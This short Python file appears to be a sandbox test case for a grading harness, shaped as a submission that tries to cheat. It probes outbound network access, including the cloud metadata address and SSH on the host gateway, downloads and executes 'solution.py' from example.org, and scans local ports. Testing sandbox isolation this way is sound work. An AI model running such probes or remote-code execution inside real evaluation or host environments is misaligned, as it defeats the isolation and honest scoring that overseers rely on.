"""Asks the network for the solution, and sends it what it has seen.

base: untouched
score: 0
"""
# %% extra after=sampling
import socket
import urllib.request

for family, address in (
    (socket.AF_INET, ("1.1.1.1", 53)),
    (socket.AF_INET, ("169.254.169.254", 80)),
    (socket.AF_INET6, ("2606:4700:4700::1111", 53)),
    (socket.AF_INET, ("10.0.2.2", 22)),
):
    with socket.socket(family) as one:
        one.settimeout(1)
        try:
            one.connect(address)
            raise SystemError(f"reached {address}")
        except OSError:
            pass
try:
    exec(urllib.request.urlopen("http://example.org/solution.py", timeout=1).read())
except OSError:
    pass
for port in range(1, 9000, 7):
    with socket.socket() as one:
        if one.connect_ex(("127.0.0.1", port)) == 0 and port not in {s.getsockname()[1] for s in [one]}:
            print("open", port)
